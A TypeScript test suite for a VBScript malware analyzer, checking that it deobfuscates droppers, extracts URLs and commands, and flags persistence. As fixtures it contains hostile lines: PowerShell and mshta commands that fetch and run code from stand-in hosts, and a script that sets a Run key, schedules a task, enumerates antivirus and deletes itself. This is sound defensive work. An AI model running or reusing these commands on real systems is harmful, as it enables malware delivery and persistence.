// The VBScript analyzer on generated droppers (test/generators/vbscript.ts): each obfuscation trick must be
// undone down to the payload URL and the command, Execute layers peeled into children, .vbe decoded, WSF and
// HTA blocks followed through the whole engine, admin scripts left benign, and hostile scripts (deep Execute
// nesting, string bombs, endless loops, garbage) ending in a limit or a partial result, never a hang or a throw.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { cmdlineAnalyzer } from '../src/analyzers/cmdline/index.ts';
import { powershellAnalyzer } from '../src/analyzers/powershell/index.ts';
import { vbscriptAnalyzer, evaluateVbscript } from '../src/analyzers/vbscript/index.ts';
import { tokenize } from '../src/analyzers/vbscript/lexer.ts';
import { htaAnalyzer, wsfAnalyzer } from '../src/analyzers/wsf/index.ts';
import { analyze as analyzeReport } from '../src/analyze.ts';
import { defaultConfig } from '../src/config.ts';
import { identify } from '../src/engine/identify.ts';
import { analyzeSubmission, type AnalysisRun } from '../src/engine/submission.ts';
import type { AnalysisContext, Artifact, EngineConfig } from '../src/engine/types.ts';
import { buildReport } from '../src/verdict/report.ts';
import {
  adminInventoryScript,
  adminLogonScript,
  chrConcat,
  classDropper,
  chrwArithmetic,
  downloader,
  executeLayers,
  executedLibrary,
  fallbackDownloader,
  hta,
  literal,
  replaceChain,
  reversed,
  scriptControlDropper,
  scriptEncode,
  scriptWriter,
  selfExecuting,
  shiftCipher,
  splitJoin,
  wmiSubscription,
  wsf,
} from './generators/vbscript.ts';
import { analysisContext } from './generators/context.ts';

const URL_1 = 'http://cdn.invoice-files.example/q/77.dat';
const PATH_1 = 'C:\\ProgramData\\77.dll';
const RUN_1 = 'rundll32.exe C:\\ProgramData\\77.dll,DllRegisterServer';

const ANALYZERS = [wsfAnalyzer, htaAnalyzer, cmdlineAnalyzer, powershellAnalyzer, vbscriptAnalyzer];

async function run(text: string, name = 'invoice.vbs', limits: Partial<EngineConfig['limits']> = {}): Promise<AnalysisRun> {
  const config = defaultConfig();
  Object.assign(config.limits, limits);
  return analyzeSubmission({ name, data: new TextEncoder().encode(text) }, { config, analyzers: ANALYZERS });
}

const ids = (r: AnalysisRun) => new Set(r.findings.map((f) => f.id));
const iocs = (r: AnalysisRun, type: string) => r.iocs.filter((i) => i.type === type).map((i) => i.value);
const commands = (r: AnalysisRun) => r.artifacts.filter((a) => a.relation === 'executed-command').map((a) => a.kind);
const layers = (r: AnalysisRun) => r.artifacts.filter((a) => a.relation === 'decoded' && a.kind === 'vbscript');

/** Runs one script with `value` hidden by `hide` and returns the command it runs. */
function commandOf(script: string): string | undefined {
  return evaluateVbscript(script, { vbscriptSteps: 2_000_000, maxDecodedBytes: 16 << 20 }).effects.runs[0]?.command;
}

test('tokenizer: continuations, separators, comments, doubled quotes, &H and &O numbers, any case', () => {
  const { tokens } = tokenize('x = "a""b" & _\r\n  &H41 + &O17 : REM note\r\ny = 1 : w = 2 \' comment\r\nDIM z', 1000);
  // A ':' separator and a line end are told apart (a one-line If ends at the line end); a run counts as one.
  const text = tokens.map((t) => (t.type === 'eos' ? (t.text === ':' ? ':' : ';') : t.type === 'number' ? String(t.value) : t.text));
  assert.deepEqual(text, ['x', '=', 'a"b', '&', '65', '+', '15', ';', 'y', '=', '1', ':', 'w', '=', '2', ';', 'DIM', 'z', ';']);
  assert.equal(tokens.find((t) => t.text === 'DIM')!.lower, 'dim');
  assert.equal(tokenize('n = &HFFFF', 100).tokens[2]!.value, -1, '&HFFFF is the Integer -1');
});

test('obfuscated VBScript with no name to go by is identified as VBScript; JScript stays JScript', () => {
  const bytes = (s: string) => new TextEncoder().encode(s);
  for (const script of [
    executeLayers('CreateObject("WScript.Shell").Run "calc"', 2),
    `Execute(${reversed('CreateObject("WScript.Shell").Run "calc"')})`,
    'CreateObject("WScript.Shell").Run "powershell -enc AAAA", 0',
    wmiSubscription('calc'),
  ]) {
    assert.equal(identify(bytes(script), 'download.bin'), 'vbscript', script.slice(0, 60));
  }
  assert.equal(identify(bytes('var s = WScript.CreateObject("WScript.Shell"); s.Run("calc", 0);'), 'download.bin'), 'jscript');
});

test('string tricks are undone: Chr, ChrW arithmetic, StrReverse, Replace chains, Split/Join, a decoder Function', () => {
  const shell = 'Set s = CreateObject("WScript.Shell")\r\n';
  const target = 'powershell -nop -w hidden -c "iwr http://x.example/a.ps1|iex"';
  for (const [name, hide] of [
    ['chr', chrConcat],
    ['chrw', chrwArithmetic],
    ['reverse', reversed],
    ['replace', replaceChain],
    ['join', splitJoin],
  ] as const) {
    assert.equal(commandOf(`${shell}c = ${hide(target)}\r\ns.Run c`), target, name);
  }
  const { fn, call } = shiftCipher(target);
  assert.equal(commandOf(`${fn}\r\n${shell}s.Run ${call}, 0`), target, 'shift cipher in a Function');
  // Mid/Left/Right/UCase/Hex/CInt/Array indexing and For loops building a string.
  const parts = [
    'Dim a(2), i, t',
    'a(0) = "CALC" : a(1) = ".EXE"',
    'For i = 0 To 1 : t = t & LCase(a(i)) : Next',
    't = Left(t, 4) & Mid(t, 5) & Right(" /x", 0) & Chr(CInt("32")) & Hex(255) & Trim("  z ") & Len("abc")',
    'Set s = CreateObject("WScript.Shell") : s.Run t',
  ];
  assert.equal(commandOf(parts.join('\r\n')), 'calc.exe FFz3');
  // Character codes in a Split list walked with For Each, and XOR with a key.
  const codes = [...'cmd /c whoami'].map((c) => c.charCodeAt(0)).join(',');
  assert.equal(commandOf(`For Each c In Split("${codes}", ",") : s = s & Chr(c) : Next\r\nCreateObject("WScript.Shell").Run s`), 'cmd /c whoami');
  const xored = [...'notepad.exe'].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 7)).join('');
  assert.equal(commandOf(`k = ${literal(xored)}\r\nFor i = 1 To Len(k) : t = t & Chr(Asc(Mid(k, i, 1)) Xor 7) : Next\r\nCreateObject("WScript.Shell").Run t`), 'notepad.exe');
});

test('a URL the script computes but is not seen fetching is still an indicator (not fetched)', async () => {
  const r = await run(`u = ${reversed('https://c2.example/gate.php')}\r\nSet o = CreateObject("Some.Unknown")\r\no.Go u`, 'c2.vbs');
  assert.ok(r.iocs.some((i) => i.type === 'url' && i.value === 'https://c2.example/gate.php' && i.role === 'url-in-script'));
  assert.ok(!r.artifacts.some((a) => a.relation === 'link'));
});

test('a downloader saving with ADODB.Stream and running with WScript.Shell: URL, file, command, dropper verdict', async () => {
  const r = await run(downloader({ url: URL_1, path: PATH_1, command: RUN_1, obfuscate: chrConcat }));
  const found = ids(r);
  for (const id of ['vbscript.download.url', 'vbscript.download.saved', 'vbscript.exec.command', 'vbscript.exec.hidden-window', 'vbscript.dropper.download-and-run', 'vbscript.obfuscation.char-codes', 'vbscript.evasion.sleep']) {
    assert.ok(found.has(id), id);
  }
  assert.deepEqual(iocs(r, 'url'), [URL_1]);
  assert.ok(r.iocs.some((i) => i.type === 'domain' && i.value === 'cdn.invoice-files.example' && i.role === 'payload-url'));
  assert.ok(iocs(r, 'filename').includes(PATH_1));
  assert.ok(iocs(r, 'command').includes(RUN_1));
  assert.ok(r.artifacts.some((a) => a.relation === 'link' && a.kind === 'url' && a.name === URL_1));
  assert.deepEqual(commands(r), ['cmdline'], 'the command goes to the command-line analyzer');
  assert.ok(r.artifacts.some((a) => a.relation === 'executed-command' && a.name === 'command' && a.size === RUN_1.length));
  assert.ok(r.findings.some((f) => f.id === 'cmdline.run.rundll32'), 'which sees the rundll32 step');
  assert.equal(buildReport(r).verdict, 'malicious');
});

test('Execute layers are peeled into decoded children down to the payload', async () => {
  const inner = `CreateObject("WScript.Shell").Run ${literal('powershell -enc SQBFAFgA')}, 0`;
  const r = await run(executeLayers(inner, 4));
  assert.equal(layers(r).length, 4);
  assert.ok(ids(r).has('vbscript.exec.layer'));
  assert.ok(iocs(r, 'command').includes('powershell -enc SQBFAFgA'));
  // Each layer is a child of the one before.
  const chain = layers(r);
  for (let i = 1; i < chain.length; i++) assert.equal(chain[i]!.parent, chain[i - 1]!.id);
});

test('a decoder Function defined by ExecuteGlobal is used by the script that executed it', async () => {
  const r = await run(executedLibrary({ url: URL_1, command: RUN_1 }), 'lib.vbs');
  assert.deepEqual(iocs(r, 'url'), [URL_1]);
  assert.ok(iocs(r, 'command').includes(RUN_1));
  assert.equal(layers(r).length, 1, 'the library is still peeled as a layer');
});

test('a script that executes its own text is peeled once: the repeated layer is noticed', async () => {
  const script = selfExecuting();
  const r = await run(script, 'quine.vbs');
  assert.ok(ids(r).has('vbscript.exec.layer'));
  assert.equal(layers(r).length, 0, 'the layer is the script itself');
  assert.equal(r.artifacts[0]!.facts?.repeatedLayer, true);
});

test('.vbe: decoded with the shared Script Encoder decoder and routed as VBScript; encoded JScript stays JScript', async () => {
  const script = downloader({ url: URL_1, path: PATH_1, command: RUN_1 });
  const encoded = scriptEncode(script);
  assert.ok(encoded.startsWith('#@~^') && !encoded.includes('ADODB'));
  const r = await run(encoded, 'scan_0412.vbe');
  assert.equal(r.artifacts[0]!.kind, 'vbscript');
  assert.ok(ids(r).has('vbscript.obfuscation.encoded'));
  assert.deepEqual(iocs(r, 'url'), [URL_1]);

  const jse = scriptEncode('var s = new ActiveXObject("WScript.Shell"); s.Run("calc.exe");');
  const artifact: Artifact = { id: 'a1', parent: null, relation: 'root', kind: 'jse', name: 'x.jse', sha256: '', size: jse.length, depth: 0, data: new TextEncoder().encode(jse), meta: {} };
  const result = await vbscriptAnalyzer.analyze(artifact, context());
  assert.equal(result.kind, undefined, 'a JScript .jse is left to the JScript analyzer');
});

test('a WSF with a VBScript block goes through the whole engine (analyze) to a malicious verdict', async () => {
  const body = downloader({ url: URL_1, path: PATH_1, command: RUN_1, obfuscate: reversed });
  const report = await analyzeReport({ name: 'Invoice_0412.wsf', data: new TextEncoder().encode(wsf(body)) }, defaultConfig());
  assert.equal(report.verdict, 'malicious');
  const script = report.artifacts.find((a) => a.relation === 'script');
  assert.equal(script?.kind, 'vbscript');
  assert.ok(report.findings.some((f) => f.id === 'vbscript.dropper.download-and-run' && f.artifact === script!.id));
  assert.ok(report.iocs.some((i) => i.type === 'url' && i.value === URL_1));
  assert.ok(report.attack.includes('T1105') && report.attack.includes('T1059.005'));
  // A VBScript.Encode block is decoded too.
  const encoded = await run(wsf(scriptEncode(body), 'VBScript.Encode'), 'doc.wsf');
  assert.ok(ids(encoded).has('vbscript.obfuscation.encoded'));
  assert.deepEqual(iocs(encoded, 'url'), [URL_1]);
});

test('an HTA whose Window_OnLoad runs PowerShell: the handler nobody calls in the script is still read', async () => {
  const r = await run(hta(`  CreateObject("WScript.Shell").Run ${chrConcat('powershell -w hidden -c "iex (iwr http://h.example/s)"')}, 0`), 'update.hta');
  assert.ok(ids(r).has('vbscript.exec.hidden-window'));
  assert.ok(iocs(r, 'command').some((c) => c.startsWith('powershell -w hidden')));
});

test('persistence and reconnaissance: Run key, scheduled task, WMI process creation, security products, self-delete', async () => {
  const script = [
    'Set sh = CreateObject("WScript.Shell")',
    'sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", "wscript.exe C:\\Users\\Public\\u.vbs", "REG_SZ"',
    'Set svc = CreateObject("Schedule.Service") : svc.Connect',
    'Set def = svc.NewTask(0)',
    'Set act = def.Actions.Create(0)',
    'act.Path = "C:\\Windows\\System32\\cmd.exe" : act.Arguments = "/c C:\\Users\\Public\\u.bat"',
    'svc.GetFolder("\\").RegisterTaskDefinition "OneDrive Sync", def, 6, , , 3',
    'Set wmi = GetObject("winmgmts:\\\\.\\root\\SecurityCenter2")',
    'For Each av In wmi.ExecQuery("Select * From AntiVirusProduct") : n = av.displayName : Next',
    'GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create "mshta http://h.example/p.hta", Null, Null, pid',
    'CreateObject("Scripting.FileSystemObject").DeleteFile WScript.ScriptFullName',
    'Set d = CreateObject("Scripting.Dictionary") : d.Item("cmd") = "C:\\Users\\Public\\u.exe"',
    'CreateObject("Shell.Application").ShellExecute d("cmd"), "/install", "", "runas", 0',
  ].join('\r\n');
  const r = await run(script, 'u.vbs');
  const found = ids(r);
  for (const id of ['vbscript.persistence.run-key', 'vbscript.persistence.scheduled-task', 'vbscript.wmi.query', 'vbscript.recon.security-products', 'vbscript.evasion.self-delete', 'vbscript.registry.write', 'vbscript.exec.elevation-prompt']) {
    assert.ok(found.has(id), id);
  }
  const cmds = iocs(r, 'command');
  assert.ok(cmds.includes('C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\u.bat'), 'the task action');
  assert.ok(cmds.includes('mshta http://h.example/p.hta'), 'Win32_Process.Create');
  assert.ok(cmds.includes('C:\\Users\\Public\\u.exe /install'), 'ShellExecute of a path kept in a Dictionary');
  assert.ok(r.findings.some((f) => f.id === 'vbscript.exec.command' && f.evidence.startsWith('Win32_Process.Create')));
  const attack = new Set(r.findings.flatMap((f) => f.attack));
  for (const t of ['T1547.001', 'T1053.005', 'T1047', 'T1518.001', 'T1070.004']) assert.ok(attack.has(t), t);
});

test('a WMI event subscription with a command-line consumer is persistence, and its command is analysed', async () => {
  const command = 'powershell -nop -w hidden -enc SQBFAFgA';
  const r = await run(wmiSubscription(command), 'wmi.vbs');
  assert.ok(ids(r).has('vbscript.persistence.wmi-subscription'));
  assert.ok(r.findings.some((f) => f.attack.includes('T1546.003')));
  assert.ok(iocs(r, 'command').includes(command));
  assert.deepEqual(commands(r), ['cmdline']);
});

test('MSXML bin.base64 decoding: an embedded layer is executed, an embedded executable is dropped', async () => {
  const layer = 'CreateObject("WScript.Shell").Run "calc.exe"';
  const exe = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(60)]);
  const script = [
    'Function B64(s)',
    '  Dim x : Set x = CreateObject("MSXML2.DOMDocument.6.0").createElement("b")',
    '  x.DataType = "bin.base64" : x.Text = s',
    '  B64 = x.nodeTypedValue',
    'End Function',
    'Function AsText(bytes)',
    '  Dim st : Set st = CreateObject("ADODB.Stream")',
    '  st.Type = 1 : st.Open : st.Write bytes : st.Position = 0 : st.Type = 2 : st.Charset = "us-ascii"',
    '  AsText = st.ReadText',
    'End Function',
    `ExecuteGlobal AsText(B64("${Buffer.from(layer).toString('base64')}"))`,
    'Set out = CreateObject("ADODB.Stream") : out.Type = 1 : out.Open',
    `out.Write B64("${exe.toString('base64')}")`,
    'out.SaveToFile CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\\svc.exe", 2',
  ].join('\r\n');
  const r = await run(script);
  const found = ids(r);
  for (const id of ['vbscript.obfuscation.base64', 'vbscript.exec.layer', 'vbscript.drop.embedded-executable', 'vbscript.drop.staging-folder']) assert.ok(found.has(id), id);
  assert.ok(iocs(r, 'command').includes('calc.exe'), 'the decoded layer was analysed');
  const dropped = r.artifacts.find((a) => a.relation === 'dropped-file');
  assert.equal(dropped?.size, exe.length);
  assert.equal(dropped?.kind, 'pe');
});

test('a Class-based dropper behind a sandbox check: property setter, method, CLSID moniker, the path past WScript.Quit', async () => {
  const r = await run(classDropper({ url: URL_1, command: RUN_1 }), 'loader.vbs');
  assert.deepEqual(iocs(r, 'url'), [URL_1], 'the URL set through Property Let and fetched in a method');
  assert.ok(iocs(r, 'command').includes(RUN_1), 'GetObject("new:{WScript.Shell CLSID}").Run');
  assert.ok(ids(r).has('vbscript.recon.security-products'), 'Win32_ComputerSystem is a sandbox check');
});

test('ScriptControl code becomes a JScript layer; a script: moniker is a remote scriptlet', async () => {
  const r = await run(scriptControlDropper('var x = 1;', 'http://h.example/a.sct'), 'sc.vbs');
  const layer = r.artifacts.find((a) => a.relation === 'decoded');
  assert.equal(layer?.kind, 'jscript');
  assert.ok(iocs(r, 'url').includes('http://h.example/a.sct'));
  assert.ok(ids(r).has('vbscript.exec.opaque'));
});

test('fallback ProgIDs, Err checks and early exits: the path that goes on keeps its request object', async () => {
  const r = await run(fallbackDownloader({ url: URL_1, path: PATH_1 }), 'fetch.vbs');
  assert.deepEqual(iocs(r, 'url'), [URL_1]);
  assert.ok(r.findings.some((f) => f.id === 'vbscript.download.saved' && f.evidence.includes(URL_1) && f.evidence.includes(PATH_1)));
});

test('a decoded second stage written to disk and opened is analysed as the next script', async () => {
  const second = `CreateObject("WScript.Shell").Run ${literal(RUN_1)}, 0`;
  const r = await run(scriptWriter(second, '%APPDATA%\\stage2.vbs'), 'stage1.vbs');
  const dropped = r.artifacts.find((a) => a.relation === 'dropped-file');
  assert.equal(dropped?.kind, 'vbscript');
  assert.ok(r.findings.some((f) => f.id === 'vbscript.exec.command' && f.evidence.startsWith('Shell.Application.Open')));
  assert.ok(r.findings.some((f) => f.id === 'vbscript.exec.hidden-window' && f.artifact === dropped!.id && f.evidence.includes(RUN_1)));
});

test('admin scripts stay benign', async () => {
  for (const [name, script] of [
    ['logon.vbs', adminLogonScript()],
    ['inventory.vbs', adminInventoryScript()],
  ] as const) {
    const r = await run(script, name);
    const report = buildReport(r);
    assert.equal(report.verdict, 'benign', `${name}: ${report.score} ${r.findings.map((f) => f.id).join(', ')}`);
    assert.equal(r.errors.length, 0, name);
    assert.ok(!ids(r).has('vbscript.parse.incomplete'), `${name} parses`);
  }
  // The inventory script's Notepad call is still seen.
  const r = await run(adminInventoryScript(), 'inventory.vbs');
  assert.ok(iocs(r, 'command').includes('notepad.exe C:\\Reports\\inventory.csv'));
});

test('hostile: deep Execute nesting stops at maxDecodedLayers, or at the tree depth before it', async () => {
  const script = executeLayers('CreateObject("WScript.Shell").Run "calc"', 40);
  const r = await run(script, 'deep.vbs', { maxDecodedLayers: 8 });
  assert.equal(layers(r).length, 8);
  assert.ok(r.limits.some((l) => l.limit === 'maxDecodedLayers'));
  const byDefault = await run(script, 'deep.vbs');
  assert.equal(layers(byDefault).length, defaultConfig().limits.maxDepth);
  assert.ok(byDefault.limits.some((l) => l.limit === 'maxDepth'));
  assert.equal(r.errors.length + byDefault.errors.length, 0);
});

test('hostile: string bombs, endless loops, huge arrays, runaway recursion, deep nesting and garbage end in limits', async () => {
  const bomb = await run('s = "AAAAAAAA"\r\nFor i = 1 To 64 : s = s & s : Next\r\nExecute s', 'bomb.vbs', { maxDecodedBytes: 1 << 20 });
  assert.ok(bomb.limits.some((l) => l.limit === 'maxDecodedBytes'));
  assert.ok(ids(bomb).has('vbscript.exec.opaque'), 'Execute of the unknown string is still reported');

  const loop = await run('Do\r\n  n = n + 1\r\nLoop\r\nCreateObject("WScript.Shell").Run "after-the-loop.exe"', 'loop.vbs', { vbscriptSteps: 200_000 });
  assert.ok(loop.limits.some((l) => l.limit === 'vbscriptSteps'));
  assert.ok(iocs(loop, 'command').includes('after-the-loop.exe'), 'the loop is cut and the script goes on');

  // Distinct large layers executed in a loop: their total, not only each one, is bounded.
  const many = await run('For i = 1 To 50 : Execute "x = 1 \'" & Space(10000) & i : Next', 'many.vbs', { maxDecodedBytes: 1 << 16 });
  assert.ok(layers(many).length <= 7, `${layers(many).length} layers kept`);
  assert.ok(many.limits.some((l) => l.limit === 'maxDecodedBytes' && l.detail.includes('in all')));
  assert.ok(ids(many).has('vbscript.exec.opaque'));

  // String work is charged by size: evaluation is synchronous, the step budget is what bounds its time.
  const work = await run('big = Space(200000)\r\nFor i = 1 To 100000 : x = Replace(big, " ", "a") : Next\r\nCreateObject("WScript.Shell").Run "after.exe"', 'work.vbs', { vbscriptSteps: 200_000 });
  assert.ok(work.limits.some((l) => l.limit === 'vbscriptSteps' && l.detail.includes('steps')));

  const steps = await run('For i = 1 To 10\r\nFor j = 1 To 100000 : x = x + 1 : Next\r\nNext', 'steps.vbs', { vbscriptSteps: 100_000 });
  assert.ok(steps.limits.some((l) => l.limit === 'vbscriptSteps'));

  const big = await run('Dim a(999999999)\r\nReDim b(2000000000)\r\nx = Space(2000000000) & String(2000000000, "A")', 'big.vbs', { maxDecodedBytes: 1 << 20 });
  assert.ok(big.limits.some((l) => l.limit === 'maxDecodedBytes'));

  const long = await run(`CreateObject("WScript.Shell").Run "first.exe"\r\nx = ${'"a" & '.repeat(5000)}"b"`, 'long.vbs', { vbscriptSteps: 4000 });
  assert.ok(long.limits.some((l) => l.limit === 'vbscriptSteps' && l.detail.includes('2000 tokens')));
  assert.ok(iocs(long, 'command').includes('first.exe'), 'what was read before the token budget ran out is analysed');

  const recursion = await run('Function F(x)\r\n  F = F(x & "a")\r\nEnd Function\r\ny = F("")', 'rec.vbs');
  assert.ok(ids(recursion).has('vbscript.hostile.recursion'));

  const deep = `x = ${'('.repeat(5000)}1${')'.repeat(5000)}\r\n${'If 1 Then\r\n'.repeat(3000)}y = ${'-'.repeat(5000)}1\r\nz = "a"${' & "b"'.repeat(200_000)}`;
  const d = await run(deep, 'deep.vbs');
  assert.ok(ids(d).has('vbscript.parse.incomplete'));
  assert.equal(d.errors.length, 0);

  let seed = 7;
  const rnd = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
  const alphabet = ['If ', 'Then', 'End If', 'For ', 'Next', 'Do', 'Loop', '(', ')', '"', '&', '_\r\n', ':', '\r\n', 'Execute ', 'Chr(', 'x', '=', '1', ',', '.', 'Sub ', 'End Sub', 'With ', 'Select Case ', 'Case ', 'Function ', "'", '&H', '#', '[', '\u0000', 'é'];
  for (let i = 0; i < 150; i++) {
    let text = '';
    for (let j = 0; j < 200; j++) text += alphabet[Math.floor(rnd() * alphabet.length)]!;
    const g = await run(text, 'garbage.vbs', { vbscriptSteps: 20_000 });
    assert.equal(g.errors.length, 0, JSON.stringify(text));
  }
});

const context = (): AnalysisContext => analysisContext();
